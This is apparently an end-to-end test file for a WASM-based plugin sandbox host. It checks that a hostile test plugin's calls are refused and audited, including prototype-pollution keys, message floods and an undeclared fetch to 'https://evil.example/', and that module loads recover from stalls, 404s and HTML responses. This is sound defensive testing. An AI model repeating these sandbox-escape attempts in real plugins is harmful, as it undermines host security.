 * core's second part is not loaded; then what every such case must show: the act needed that
 * part (else the case proves nothing), which was fetched once, asynchronously (never a
 * synchronous request), and nothing was thrown on the page.
 */
async function needingThePart(name, id, act) {
  const host = await hostileHost(id);
  try {
    const loaded = () => host.page.evaluate(async () => (await import('/pkg/index.js')).__pw_checksLoaded());
    assert.equal(await loaded(), false, `${name}: the set-up loaded the second part`);
    await act(host);
    assert.deepEqual(await host.page.evaluate(() => window.syncRequests), [], `${name}: a synchronous request`);
    assert.equal(await loaded(), true, `${name}: it did not need the second part (then this test proves nothing for it)`);
    assert.equal(count(host.requests(), CHECKS_WASM), 1, name);
    assert.deepEqual(host.errors, [], name);
  } finally {
    await host.close();
  }
}

test('a plugin unmounted while its refused message waits for the core\'s second part: nothing is handed over nor thrown when the part arrives; mounted again, it works', async () => {
  const host = await freshHost();
  try {
    const { page, errors } = host;
    await mountNotes(page);
    const notes = await pluginFrame(page, 'notes', { state: 'connected' });
    // The part arrives 1.5 s after it is asked for.
    await page.route(`**${CHECKS_WASM}`, async (route) => { await new Promise((resolve) => setTimeout(resolve, 1500)); await route.continue(); });
    await notes.evaluate(() => { window.notes.run('storage.set', 'big', 'x'.repeat(70_000)); window.notes.run('storage.get', 'note'); });
    assert.ok(await until(async () => count(host.requests(), CHECKS_WASM) === 1, 5000), 'the held message did not ask for the part');
    await page.evaluate(() => window.e2e.host.unmount('notes'));
    await new Promise((resolve) => setTimeout(resolve, 2500));
    assert.equal(await page.evaluate(async () => (await import('/pkg/index.js')).__pw_checksLoaded()), true);
    assert.deepEqual(errors, [], 'a freed callback was called');
    const again = await page.evaluate(() => window.e2e.mountAndWait('notes', '/notes/'));
    assert.equal(again.ok, true, JSON.stringify(again));
    const frame = await pluginFrame(page, 'notes', { state: 'connected' });
    assert.deepEqual(await frame.evaluate(() => window.notes.run('storage.get', 'note')), { ok: true, value: { text: 'remember the milk', savedBy: 'notes' } });
    assert.deepEqual(errors, []);
  } finally {
    await host.close();
  }
});

test('a hostile plugin\'s refused messages (an undeclared method, too large, too deep, reserved keys, a BigInt, a flood), each on a fresh host whose core\'s second part is not loaded: never a synchronous request; each is answered its own code, as on a host with the part loaded, and audited', { timeout: 120_000 }, async () => {
  const attacks = {
    'undeclared-method': (r) => [codeOf(r)],
    oversized: (r) => [codeOf(r)],
    deep: (r) => [codeOf(r)],
    'prototype-pollution': (r) => ['inData', 'inParams', 'constructorKey', 'envelope'].map((k) => codeOf(r[k])),
    'small-messages': (r) => ['bigintTop', 'reservedKey', 'version', 'noStorage', 'listed'].map((k) => codeOf(r[k])),
    'flood-probe': (r) => Object.keys(r).sort(),
  };
  const expected = {
    'undeclared-method': ['MESSAGE_REJECTED'],
    oversized: ['MESSAGE_REJECTED'],
    deep: ['MESSAGE_REJECTED'],
    'prototype-pollution': ['MESSAGE_REJECTED', 'MESSAGE_REJECTED', 'MESSAGE_REJECTED', 'MESSAGE_REJECTED'],
    'small-messages': ['MESSAGE_REJECTED', 'MESSAGE_REJECTED', 'MESSAGE_REJECTED', 'PERMISSION_DENIED', 'ok'],
    'flood-probe': ['RATE_LIMITED', 'ok'],
  };
  for (const [name, read] of Object.entries(attacks)) {
    await needingThePart(name, 'hostile', async ({ page, hostile }) => {
      const r = await attack(hostile, name);
      assert.deepEqual(read(r), expected[name], `${name}: ${JSON.stringify(r).slice(0, 400)}`);
      const audited = await page.evaluate(() => window.e2e.host.auditLog().filter((e) => e.kind === 'refusal' && e.plugin === 'hostile').map((e) => e.code));
      assert.ok(audited.length >= 1 && audited.every((c) => expected[name].includes(c)), `${name}: audited ${JSON.stringify(audited)}`);
      // The host goes on: the plugin's next call is answered (after a flood, once the rate
      // limiter's bucket has refilled: 50 calls a second).
      if (name === 'flood-probe') await new Promise((resolve) => setTimeout(resolve, 2500));
      assert.equal(codeOf(await attack(hostile, 'small-messages').then((x) => x.listed)), 'ok', name);
    });
  }
});

test('a hostile plugin\'s refused messages while the core\'s second part cannot load: each is answered MODULE_NOT_LOADED at once (not served) and audited (once a second, every one counted), never a synchronous request; its good calls behind them are answered as ever, the host is never stopped, and once the network is back the next refusal loads the part and carries its own code', { timeout: 60_000 }, async () => {
  const host = await hostileHost();
  try {
    const { page, hostile, errors } = host;
    const seen = [];
    const recover = await failUntil(page, CHECKS_WASM, seen);
    const attackedAt = Date.now();
    const r = await attack(hostile, 'small-messages');
    for (const k of ['bigintTop', 'bigintParams', 'protoTop', 'protoParams', 'reservedKey', 'typedParams', 'version', 'undeclared']) {
      assert.equal(codeOf(r[k]), 'MODULE_NOT_LOADED', `${k}: ${JSON.stringify(r[k])}`);
      assert.match(r[k].reply.error.message, /^not served: the code that answers it is not loaded$/, k);
    }
    // Refused by code of the first part, and served: as ever.
    assert.equal(codeOf(r.noStorage), 'PERMISSION_DENIED');
    assert.equal(codeOf(r.listed), 'ok');
    assert.ok(seen.length >= 1 && seen.every((x) => x === '404'), JSON.stringify(seen));
    const state = await page.evaluate(() => ({ status: window.e2e.host.status('hostile').state, loaded: window.e2e.host.plugins() }));
    assert.deepEqual(state, { status: 'mounted', loaded: ['hostile'] }, 'the host stopped');
    // Each one not served is audited as it is answered, by code of the first part: the host's
    // onAudit heard of the first at once (the method its message names, why), and of at most
    // one more each second since (a plugin's refusals are written once a second, the rest
    // counted).
    const unserved = () => page.evaluate(() => window.e2e.state.audits.filter((e) => e.code === 'MODULE_NOT_LOADED'));
    const atMost = () => 1 + Math.ceil((Date.now() - attackedAt) / 1000);
    const told = await unserved();
    assert.ok(told.length >= 1 && told.length <= atMost(), JSON.stringify(told));
    assert.deepEqual(
      { plugin: told[0].plugin, kind: told[0].kind, method: told[0].method, decision: told[0].decision, detail: told[0].detail },
      { plugin: 'hostile', kind: 'refusal', method: 'permissions.list', decision: 'deny', detail: { message: 'not served: the code that answers it is not loaded' } },
    );
    // Not fetched again at each message: after a failure, no load for 0.5 s (doubling).
    const fetched = seen.length;
    assert.ok(fetched < 8, `${fetched} loads for 8 refused messages`);
    recover();
    // Answered MODULE_NOT_LOADED until the wait is over, then its own code.
    let back = null;
    let waited = 0;
    for (let i = 0; i < 40 && codeOf(back) !== 'MESSAGE_REJECTED'; i++) {
      back = await attack(hostile, 'undeclared-method');
      assert.ok(['MODULE_NOT_LOADED', 'MESSAGE_REJECTED'].includes(codeOf(back)), JSON.stringify(back));
      if (codeOf(back) !== 'MESSAGE_REJECTED') {
        waited += 1;
        await new Promise((resolve) => setTimeout(resolve, 250));
      }
    }
    assert.equal(codeOf(back), 'MESSAGE_REJECTED', JSON.stringify(back));
    assert.equal(seen.at(-1), 'server');
    // Every one not served was counted (the 8 and those while the wait lasted), and the log
    // holds what onAudit heard.
    const audit = await page.evaluate(() => ({
      counts: window.e2e.host.inspect('hostile').counts,
      logged: window.e2e.host.auditLog().filter((e) => e.code === 'MODULE_NOT_LOADED').map((e) => e.seq),
    }));
    assert.equal(audit.counts.MODULE_NOT_LOADED, 8 + waited, JSON.stringify(audit.counts));
    assert.deepEqual(audit.logged, (await unserved()).map((e) => e.seq));
    assert.ok(audit.logged.length <= atMost(), JSON.stringify(audit));
    assert.deepEqual(await page.evaluate(() => window.syncRequests), [], 'a synchronous request');
    assert.deepEqual(errors, []);
  } finally {
    await host.close();
  }
});

// A plugin's calls off a first visit's path that the core answers or refuses with code of its
// second part, each sent as it is (`send`); expected: the reply's code ('ok' for an answer).
const OFF_PATH = {
  'an RBAC action asked about': ['hostile', ['permissions.has', { permission: 'hostile.notes:read' }], 'ok'],
  'a permission it may not request': ['hostile', ['permissions.request', { permission: 'storage', reason: 'to keep notes' }], 'PERMISSION_DENIED'],
  'a URL its manifest does not declare': ['hostile', ['api.fetch', { url: 'https://evil.example/' }], 'NETWORK_DENIED'],
  'whether it may fetch that URL': ['hostile', ['api.canFetch', { url: 'https://evil.example/' }], 'ok'],
  'a storage key too long': ['hostile-spy', ['storage.set', { key: 'k'.repeat(300), value: 1 }], 'QUOTA_EXCEEDED'],
};

test('a plugin\'s calls off a first visit\'s path that the core answers or refuses with code of its second part (an RBAC action asked about, a permission it may not request, a URL not declared, a key too long, a store over its quota), each on a fresh host whose second part is not loaded: never a synchronous request; each waits while the part loads asynchronously, is answered as on a host with the part loaded, and the host goes on', { timeout: 120_000 }, async () => {
  const cases = [
    ...Object.entries(OFF_PATH).map(([name, [id, call, code]]) => [name, id, () => 'send', call, (r) => codeOf(r), code]),
    ['a store over its quota', 'hostile-spy', () => 'fill-storage', undefined, (r) => (r.stored >= 20 ? codeOf(r.refused) : JSON.stringify(r)), 'QUOTA_EXCEEDED'],
  ];
  for (const [name, id, how, arg, read, expected] of cases) {
    await needingThePart(name, id, async ({ page, hostile }) => {
      const r = await attack(hostile, how(), arg);
      assert.equal(read(r), expected, `${name}: ${JSON.stringify(r).slice(0, 400)}`);
      // The host goes on.
      const after = await attack(hostile, 'send', ['permissions.list', {}]);
      assert.equal(codeOf(after), 'ok', `${name}: ${JSON.stringify(after)}`);
      assert.equal(await page.evaluate((p) => window.e2e.host.status(p).state, id), 'mounted', name);
    });
  }
});

test('those calls while the core\'s second part cannot load: each is answered MODULE_NOT_LOADED (not served), never a synchronous request, the host never stopped; its calls on a first visit\'s path are answered as ever; once the network is back the same call carries its own code', { timeout: 60_000 }, async () => {
  const host = await hostileHost();
  try {
    const { page, hostile, errors } = host;
    const seen = [];
    const recover = await failUntil(page, CHECKS_WASM, seen);
    for (const [name, [id, call]] of Object.entries(OFF_PATH)) {
      if (id !== 'hostile') continue;
      const r = await attack(hostile, 'send', call);
      assert.equal(codeOf(r), 'MODULE_NOT_LOADED', `${name}: ${JSON.stringify(r)}`);
      assert.match(r.reply.error.message, /^not served: the code that answers it is not loaded$/, name);
      assert.equal(codeOf(await attack(hostile, 'send', ['permissions.list', {}])), 'ok', name);
    }
    assert.ok(seen.length >= 1 && seen.every((x) => x === '404'), JSON.stringify(seen));
    const state = await page.evaluate(() => ({ status: window.e2e.host.status('hostile').state, loaded: window.e2e.host.plugins() }));
    assert.deepEqual(state, { status: 'mounted', loaded: ['hostile'] }, 'the host stopped');
    recover();
    await deniedOnceLoaded(hostile, 40);
    assert.deepEqual(await page.evaluate(() => window.syncRequests), [], 'a synchronous request');
    assert.deepEqual(errors, []);
  } finally {
    await host.close();
  }
});

/**
 * Arm `window.loadNow()` in `page`: start the load of `kind` ('checks', 'sanitizer': `preload`;
 * 'shadow': a shadow mount, which loads the sanitizer; 'init': `init()` of a fresh copy of the
 * entry module), from `url` if given, and push how it settled to `window.loads`; and
 * `window.loaded()`: whether it has loaded (for 'shadow', with the plugin's state). Starts one.
 */
function armLoads(page, kind, url) {
  return page.evaluate(async ([kind, url]) => {
    window.loads = [];
    const entry = () => import(kind === 'init' ? '/pkg/index.js?again' : '/pkg/index.js');
    const settle = (p) => p.then(() => ({ ok: true }), (e) => ({ ok: false, code: e.code, message: e.message }));
    if (kind === 'shadow') await window.e2e.install({ id: 'panel', name: 'Panel', permissions: [] });
    // Whether the load has happened (and, for the mount, its plugin's state: `installed`
    // until it mounts, nothing half done).
    window.loaded = async () => {
      const pkg = await entry();
      if (kind === 'init') return pkg.__pw_checksLoaded() !== undefined; // NOT_INITIALIZED before init()
      if (kind === 'checks') return pkg.__pw_checksLoaded();
      if (kind === 'sanitizer') return pkg.__sanitizerLoaded();
      return `${pkg.__sanitizerLoaded()} ${window.e2e.host.status('panel').state}`;
    };
    const start = (pkg) => {
      if (kind === 'init') return pkg.default(url === undefined ? undefined : { module_or_path: url });
      if (kind !== 'shadow') return url === undefined ? pkg.preload(kind) : pkg.preload(kind, url);
      window.e2e.mountWith('panel', { mode: 'shadow', html: '<p>hi</p>' });
      return window.e2e.settled('panel').then((r) => {
        if (!r.ok) throw r.error;
      });
    };
    window.loadNow = () => entry().then((pkg) => settle(start(pkg))).then((r) => window.loads.push(r));
    window.loadNow();
  }, [kind, url]);
}

/**
 * After the first load armLoads started failed with `stall`'s code (its message matching
 * `message`): nothing is loaded nor half done, and the next load fetches the file again
 * (`asked`, the server's log, reads `served` then) and loads it.
 */
async function failedThenLoads(page, stall, message, asked, served) {
  const [given] = await page.evaluate(() => window.loads);
  assert.equal(given.code, stall.code, JSON.stringify(given));
  assert.match(given.message, message);
  const before = { init: 'NOT_INITIALIZED', shadow: 'false installed' }[stall.kind] ?? false;
  assert.equal(await page.evaluate(() => window.loaded().then((v) => v, (e) => e.code)), before);
  await page.evaluate(() => window.loadNow());
  assert.deepEqual(await page.evaluate(() => window.loads.at(-1)), { ok: true });
  assert.deepEqual(asked, served);
  assert.equal(await page.evaluate(() => window.loaded()), stall.kind === 'shadow' ? 'true mounted' : true);
}

// Each load of a wasm file from a URL: the core's second part and the sanitizer's first part
// (`preload`, and a shadow mount's load of the sanitizer), and the core itself (`init()`, in a
// fresh copy of the entry module: `?again`).
const WASM_LOADS = [
  { what: 'the core\'s second part', path: CHECKS_WASM, kind: 'checks', load: 'preload(\'checks\')', code: 'MODULE_NOT_LOADED', message: /could not load the checks module: no answer within 60 s/ },
  { what: 'the sanitizer\'s first part', path: SANITIZER_WASM, kind: 'sanitizer', load: 'preload(\'sanitizer\')', code: 'MODULE_NOT_LOADED', message: /could not load the sanitizer module: no answer within 60 s/ },
  { what: 'the sanitizer\'s first part for a shadow mount', path: SANITIZER_WASM, kind: 'shadow', load: 'the mount', code: 'MODULE_NOT_LOADED', message: /could not load the sanitizer module: no answer within 60 s/ },
  { what: 'the core', path: '/pkg/plugin_warden_bg.wasm', kind: 'init', load: 'init()', code: 'NOT_INITIALIZED', message: /init\(\) could not load the wasm module from http:\S+\/pkg\/plugin_warden_bg\.wasm: no answer within 60 s/ },
];

for (const stall of WASM_LOADS) {
  test(`a load of ${stall.what} whose response stalls is given up after 60 s (the page's clock run ahead): ${stall.load} rejects ${stall.code} naming the time limit, and the next one fetches the file afresh and loads it`, { timeout: 60_000 }, async () => {
    const context = await env.browser.newContext();
    // The page's timers on a clock the test can run ahead (time flows as ever until then).
    await context.clock.install();
    let release = () => {};
    try {
      const { page } = await openHost(env, 'scenario=none&host-csp=none', { context });
      const errors = [];
      page.on('pageerror', (e) => errors.push(`${e.name}: ${e.message}`));
      const stalled = new Promise((resolve) => { release = resolve; });
      const asked = [];
      await page.route(`**${stall.path}`, async (route) => {
        asked.push(asked.length === 0 ? 'stalled' : 'server');
        if (asked.length === 1) await stalled; // the first response never comes
        await route.continue().catch(() => {}); // (the stalled one was given up by then)
      });
      await armLoads(page, stall.kind);
      assert.ok(await until(() => asked.length === 1, 10_000), 'the file was never asked for');
      // 59 s on: still waiting.
      await context.clock.fastForward(59_000);
      await new Promise((resolve) => setTimeout(resolve, 200));
      assert.deepEqual(await page.evaluate(() => window.loads), []);
      // Past 60 s: given up.
      await context.clock.fastForward(2_000);
      assert.ok(await until(() => page.evaluate(() => window.loads.length === 1), 10_000), 'the stalled load was never given up');
      // The next load does not wait for the stalled request: it fetches the file again.
      await failedThenLoads(page, stall, stall.message, asked, ['stalled', 'server']);
      assert.deepEqual(errors, []);
    } finally {
      release();
      await context.close();
    }
  });
}

// A server that sends the headers and half the file, then nothing (a stall mid-body, as a
// broken or hostile mirror can): the time limit holds for the body too. The first request
// stalls so; the next is answered whole.
for (const stall of WASM_LOADS.filter((s) => s.kind !== 'shadow')) {
  test(`a load of ${stall.what} from a URL whose server stops mid-body is given up after 60 s (the page's clock run ahead): ${stall.load} rejects ${stall.code} naming the time limit, and the next one loads it`, { timeout: 60_000 }, async () => {
    const bytes = readFileSync(new URL(`../..${stall.path}`, import.meta.url));
    const asked = [];
    const server = createServer((req, res) => {
      asked.push(asked.length === 0 ? 'half' : 'whole');
      res.writeHead(200, { 'content-type': 'application/wasm', 'access-control-allow-origin': '*', 'cross-origin-resource-policy': 'cross-origin' });
      if (asked.length === 1) res.write(bytes.subarray(0, bytes.length >> 1)); // and never ends
      else res.end(bytes);
    });
    await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
    const url = `http://127.0.0.1:${server.address().port}/part.wasm`;
    const context = await env.browser.newContext();
    await context.clock.install();
    try {
      const { page } = await openHost(env, 'scenario=none&host-csp=none', { context });
      const errors = [];
      page.on('pageerror', (e) => errors.push(`${e.name}: ${e.message}`));
      const headers = page.waitForResponse((r) => r.url() === url, { timeout: 10_000 });
      await armLoads(page, stall.kind, url);
      await headers; // the response has begun: what stalls is its body
      await new Promise((resolve) => setTimeout(resolve, 200)); // (and the half is in)
      await context.clock.fastForward(59_000);
      await new Promise((resolve) => setTimeout(resolve, 200));
      assert.deepEqual(await page.evaluate(() => window.loads), [], 'given up before 60 s');
      await context.clock.fastForward(2_000);
      assert.ok(await until(() => page.evaluate(() => window.loads.length === 1), 10_000), 'the stalled body was never given up');
      await failedThenLoads(page, stall, /no answer within 60 s/, asked, ['half', 'whole']);
      assert.deepEqual(errors, []);
    } finally {
      await context.close();
      server.closeAllConnections();
      server.close();
    }
  });
}

// A server (or a CDN, or a single-page app's fallback route) that answers a wasm file's URL
// with an HTML page, 200: each load rejects its code, naming what the browser found instead of
// wasm, leaves nothing half done, and the next load (the file served again) loads it.
for (const stall of WASM_LOADS) {
  test(`a load of ${stall.what} answered with an HTML page (200, a fallback route): ${stall.load} rejects ${stall.code} naming what came instead of wasm, and the next one loads it`, async () => {
    const context = await env.browser.newContext();
    try {
      const { page } = await openHost(env, 'scenario=none&host-csp=none', { context });
      const errors = [];
      page.on('pageerror', (e) => errors.push(`${e.name}: ${e.message}`));
      const asked = [];
      await page.route(`**${stall.path}`, async (route) => {
        asked.push(asked.length === 0 ? 'html' : 'server');
        if (asked.length === 1) await route.fulfill({ status: 200, contentType: 'text/html', body: '<!doctype html><title>app</title><div id="root"></div>' });
        else await route.continue();
      });
      await armLoads(page, stall.kind);
      assert.ok(await until(() => page.evaluate(() => window.loads.length === 1), 10_000), 'the load never settled');
      // (V8's words for the HTML's first bytes, `<!do`, where wasm's magic number belongs.)
      await failedThenLoads(page, stall, /expected magic word 00 61 73 6d, found 3c 21 64 6f/, asked, ['html', 'server']);
      assert.deepEqual(errors, []);
    } finally {
      await context.close();
    }
  });
}

test('the core\'s second part fails to load (a 404 for the synchronous load and its retry, then a hang-up for preload): MODULE_NOT_LOADED naming the file; a later preload succeeds and the same call answers', async () => {
  const host = await freshHost();
  try {
    const { page } = host;
    const seen = [];
    await scriptAnswers(page, CHECKS_WASM, ['404', '404', 'hang-up'], seen); // the synchronous load tries twice
    const r = await page.evaluate(async (bad) => {
      const pkg = await import('/pkg/index.js');
      const attempt = (f) => { try { return { ok: true, value: f() }; } catch (e) { return { ok: false, name: e.name, code: e.code, message: e.message }; } };
      const settle = (p) => p.then(() => ({ ok: true }), (e) => ({ ok: false, name: e.name, code: e.code, message: e.message }));
      const sync = attempt(() => pkg.validateManifest(bad));
      const preloaded = await settle(pkg.preload('checks'));
      const loadedAfterFailures = pkg.__pw_checksLoaded();
      const recovered = await settle(window.e2e.host.preload('checks'));
      const again = attempt(() => pkg.validateManifest(bad));
      return { sync, preloaded, loadedAfterFailures, recovered, again };
    }, BAD_MANIFEST);
    assert.equal(r.sync.ok, false);
    assert.equal(r.sync.code, 'MODULE_NOT_LOADED', JSON.stringify(r.sync));
    assert.equal(r.sync.name, 'PluginWardenError');
    assert.match(r.sync.message, /plugin_warden_checks_bg\.wasm: the server answered HTTP 404/);
    assert.match(r.sync.message, /preload\('checks'\)/, 'the message says how to load it ahead');
    assert.equal(r.preloaded.code, 'MODULE_NOT_LOADED', JSON.stringify(r.preloaded));
    assert.match(r.preloaded.message, /could not load the checks module/);
    assert.equal(r.loadedAfterFailures, false);
    assert.deepEqual(r.recovered, { ok: true });
    assert.equal(r.again.ok, true, JSON.stringify(r.again));
    assert.equal(r.again.value.valid, false);
    assert.deepEqual(seen, ['404', '404', 'hang-up', 'server']);
  } finally {
    await host.close();
  }
});

const SET_USER_TRIES = 1_000;

test('a setUser the host refuses (a user it cannot read) while the core\'s second part cannot load: it throws MODULE_NOT_LOADED before changing anything; the host goes on with the user it had, never stopped (1 000 refusals in a row: the stack each one held is given back); once the network is back the same refusal carries its own code', { timeout: 120_000 }, async () => {
  const host = await freshHost();
  try {
    const { page, errors } = host;
    await page.evaluate(() => window.e2e.host.setUser({ role: 'Viewer', permissions: ['reports:export'] }));
    await mountNotes(page);
    const notes = await pluginFrame(page, 'notes', { state: 'connected' });
    const seen = [];
    const recover = await failUntil(page, CHECKS_WASM, seen);
    const refuse = (tries) => page.evaluate((tries) => {
      const h = window.e2e.host;
      const out = { first: [], codes: {} };
      // The refusal is code of the second part; the user is read before the host is held.
      for (const user of [{ role: 'Nobody' }, null, 5, { role: 'Viewer', permissions: [5] }]) {
        try {
          out.first.push({ ok: true, value: h.setUser(user) ?? null });
        } catch (e) {
          out.first.push({ code: e.code, message: e.message });
        }
      }
      for (let i = 0; i < tries; i++) {
        try {
          h.setUser({ role: 'Nobody' });
          out.codes.set = (out.codes.set ?? 0) + 1;
        } catch (e) {
          out.codes[e.code] = (out.codes[e.code] ?? 0) + 1;
        }
      }
      out.kept = h.hasPermission('reports:export');
      out.status = h.status('notes');
      return out;
    }, tries);
    const r = await refuse(SET_USER_TRIES);
    for (const x of r.first) {
      assert.equal(x.code, 'MODULE_NOT_LOADED', JSON.stringify(x));
      assert.match(x.message, /this call needs the rest of the core module, which could not be loaded from \S*plugin_warden_checks_bg\.wasm: the server answered HTTP 404/);
      assert.doesNotMatch(x.message, /stopped/);
    }
    assert.deepEqual(r.codes, { MODULE_NOT_LOADED: SET_USER_TRIES });
    assert.equal(r.kept, true, 'a refused user replaced the one the host had');
    assert.deepEqual(r.status, { state: 'mounted' });
    // Its plugin is served as ever, and the host can still change its user.
    const stored = await notes.evaluate(() => window.notes.run('storage.get', 'note'));
    assert.equal(stored.ok, true, JSON.stringify(stored));
    await new Promise((resolve) => setTimeout(resolve, 300)); // the sweep after each failed load
    const changed = await page.evaluate(() => {
      const h = window.e2e.host;
      h.setUser({ role: 'Viewer' });
      return { kept: h.hasPermission('reports:export'), status: h.status('notes') };
    });
    assert.deepEqual(changed, { kept: false, status: { state: 'mounted' } });

    // The network is back: the refusal carries its own code, the user again unchanged.
    recover();
    const back = await page.evaluate(() => {
      const h = window.e2e.host;
      h.setUser({ role: 'Viewer', permissions: ['reports:export'] });
      try {
        h.setUser({ role: 'Nobody' });
        return { ok: true };
      } catch (e) {
        return { code: e.code, message: e.message, kept: h.hasPermission('reports:export') };
      }
    });
    assert.equal(back.code, 'INVALID_ARGUMENT', JSON.stringify(back));
    assert.match(back.message, /user/);
    assert.equal(back.kept, true);
    assert.deepEqual(errors, []);
  } finally {
    await host.close();
  }
});

/**
 * A fresh e2e host page (a context of its own) whose entry module does not count `status` of a
 * plugin not installed among the calls that need the core's second part (src/web/index.js
 * `BY_ID`, a literal the minifier keeps): that refusal then loads the part inside the call,
 * with the host's state borrowed, as a call the entry's lists missed would. No call of the
 * package does so any more (the last, a refused `setUser`, reads the user before it holds the
 * host); this is how the safety net under such a call is tested.
 */
async function missedCallHost() {
  const from = '/^(status|unmount|visibleIncludes)$/';
  const text = readFileSync(new URL('../../pkg/index.js', import.meta.url), 'utf8');
  assert.ok(text.includes(from), 'the entry no longer has this BY_ID list: change missedCallHost');
  const context = await env.browser.newContext();
  await context.route('**/pkg/index.js', (route) => route.fulfill({ status: 200, contentType: 'text/javascript', body: text.replace(from, '/^(unmount|visibleIncludes)$/') }));
  const host = await openHost(env, 'scenario=none&host-csp=none', { context });
  host.errors = [];
  host.page.on('pageerror', (e) => host.errors.push(`${e.name}: ${e.message}`));
  return { ...host, close: () => context.close() };
}

test('a host call that needs the core\'s second part for a reason the entry missed, just as the network fails: the host it cut off stops (its calls throw and its promises reject MODULE_NOT_LOADED naming the cause, a pending mount too; its plugin\'s later calls are answered so at once; nothing traps or fetches again); the page\'s other host goes on, and a new one works once the part loads', async () => {
  const host = await missedCallHost();
  try {
    const { page, errors } = host;
    const seen = [];
    // A fast heartbeat, so that a stopped host that still ticked would trap within the test. The
    // scenario's host stays, as the page's other host (not in the cut-off call).
    const otherReads = await page.evaluate(async () => {
      const pkg = await import('/pkg/index.js');
      window.other = window.e2e.host;
      window.e2e.host = new pkg.PluginHost({
        hostVersion: '1.0.0', user: { role: 'Viewer' }, storage: 'memory', limits: { heartbeatMs: 100 },
        onPermissionRequest: async () => false, onAudit: () => {}, onEvent: () => {}, onNotify: () => {},
      });
      return window.other.hasPermission('plugins:read');
    });
    await mountNotes(page);
    // A mount still pending when the host stops: its page never arrives.
    await page.route('**/never-answered/**', () => {});
    const loaded = await page.evaluate(async () => {
      await window.e2e.install(window.e2e.manifests.silent);
      window.e2e.mount('silent', '/never-answered/', { timeout: 60_000 });
      return (await import('/pkg/index.js')).__pw_checksLoaded();
    });
    assert.equal(loaded, false, 'the set-up loaded the second part: change it');
    await scriptAnswers(page, CHECKS_WASM, ['404', '404'], seen); // the synchronous load and its retry
    const notes = await pluginFrame(page, 'notes', { state: 'connected' });
    const answered = (call) => notes.evaluate((c) => Promise.race([
      window.notes.run(...c).then((r) => ({ answered: r }), (e) => ({ threw: String(e) })),
      new Promise((resolve) => setTimeout(() => resolve('no answer'), 1500)),
    ]), call);
    // The host's refusal of a plugin it does not have is made by code of the second part, which
    // cannot load: the call (one of a first visit's, for this entry) is cut off with the host's
    // state borrowed.
    const cut = await page.evaluate(() => {
      try {
        return { answered: window.e2e.host.status('nobody') };
      } catch (e) {
        return { code: e.code, message: e.message };
      }
    });
    assert.equal(cut.code, 'MODULE_NOT_LOADED', JSON.stringify(cut));
    assert.match(cut.message, /this PluginHost stopped.*plugin_warden_checks_bg\.wasm: the server answered HTTP 404/, JSON.stringify(cut));
    assert.deepEqual(seen, ['404', '404']);
    // Its next calls are answered MODULE_NOT_LOADED at once, by a stopped host that fetches
    // nothing more for them; the heartbeat's ticks (every 100 ms) reach it too.
    const next = await answered(['storage.get', 'note']);
    assert.equal(next.answered?.ok, false, JSON.stringify(next));
    assert.equal(next.answered.error.code, 'MODULE_NOT_LOADED', JSON.stringify(next));
    assert.match(next.answered.error.message, /the host stopped/);
    const burst = await notes.evaluate(() => Promise.all(Array.from({ length: 50 }, (_, i) => window.notes.run(i % 2 ? 'storage.set' : 'storage.get', `k${i}`, 'x'.repeat(i * 100))
      .then((r) => (r.ok ? 'ok' : r.error.code), (e) => String(e)))));
    assert.deepEqual([...new Set(burst)], ['MODULE_NOT_LOADED'], JSON.stringify(burst));
    await new Promise((resolve) => setTimeout(resolve, 1000));
    assert.deepEqual(seen, ['404', '404'], 'a stopped host fetched again');

    const r = await page.evaluate(async (manifest) => {
      const pkg = await import('/pkg/index.js');
      const h = window.e2e.host;
      const sync = (f) => { try { return { ok: true, value: f() }; } catch (e) { return { ok: false, name: e.name, code: e.code, message: e.message, cause: e.cause?.message }; } };
      const settle = (p) => p.then((value) => ({ ok: true, value }), (e) => ({ ok: false, name: e.name, code: e.code, message: e.message }));
      const out = {
        pendingMount: await Promise.race([window.e2e.settled('silent'), new Promise((resolve) => setTimeout(() => resolve('still pending'), 3000))]),
        status: sync(() => h.status('notes')),
        hasPermission: sync(() => h.hasPermission('plugins:read')),
        trustedHTML: sync(() => h.trustedHTML('<b>x</b>')),
        install: await settle(h.install({ ...manifest, id: 'later' })),
        mount: await settle(h.mount('notes', document.body)),
        destroy: sync(() => h.destroy()),
        free: sync(() => h.free()),
        statusAgain: sync(() => h.status('notes')),
      };
      // The page's other host, made before the failure, was not in the cut-off call.
      out.other = {
        install: await settle(window.other.install({ ...manifest, id: 'other-1' })),
        status: sync(() => window.other.status('other-1')),
        hasPermission: sync(() => window.other.hasPermission('plugins:read')),
      };
      // The network is back: the part loads, and a new host works on both parts.
      out.preloaded = await settle(pkg.preload('checks'));
      const fresh = new pkg.PluginHost({});
      out.fresh = {
        install: await settle(fresh.install({ ...manifest, id: 'fresh-1' })),
        refused: sync(() => fresh.status('nobody')), // an error path: the second part
      };
      out.stillStopped = sync(() => h.plugins());
      return out;
    }, { name: 'Later', version: '1.0.0', permissions: ['storage'] });

    const stoppedError = (x, what) => {
      assert.equal(x.ok, false, `${what}: ${JSON.stringify(x)}`);
      assert.equal(x.code, 'MODULE_NOT_LOADED', `${what}: ${JSON.stringify(x)}`);
      assert.equal(x.name, 'PluginWardenError', what);
      assert.match(x.message, /this PluginHost stopped/, what);
      assert.match(x.message, /plugin_warden_checks_bg\.wasm: the server answered HTTP 404/, `${what}: the message names the cause`);
      assert.match(x.message, /Create a new PluginHost/, what);
    };
    assert.equal(r.pendingMount.ok, false, JSON.stringify(r.pendingMount));
    assert.equal(r.pendingMount.error.code, 'MODULE_NOT_LOADED', JSON.stringify(r.pendingMount));
    assert.match(r.pendingMount.error.message, /this PluginHost stopped/);
    for (const what of ['status', 'hasPermission', 'trustedHTML', 'install', 'mount', 'statusAgain', 'stillStopped']) stoppedError(r[what], what);
    // Releasing a stopped host does not touch its half-changed state.
    assert.deepEqual([r.destroy, r.free], [{ ok: true, value: undefined }, { ok: true, value: undefined }]);
    assert.equal(r.other.install.ok, true, JSON.stringify(r.other));
    assert.deepEqual(r.other.status, { ok: true, value: { state: 'installed' } });
    assert.deepEqual(r.other.hasPermission, { ok: true, value: otherReads });
    assert.deepEqual(r.preloaded, { ok: true, value: undefined });
    assert.equal(r.fresh.install.ok, true, JSON.stringify(r.fresh));
    assert.equal(r.fresh.refused.code, 'NOT_FOUND', JSON.stringify(r.fresh));
    assert.deepEqual(seen, ['404', '404', 'server']);
    // Nothing reached the page uncaught: no trap (RuntimeError), no second failure.
    assert.deepEqual(errors, []);
  } finally {
    await host.close();
  }
});

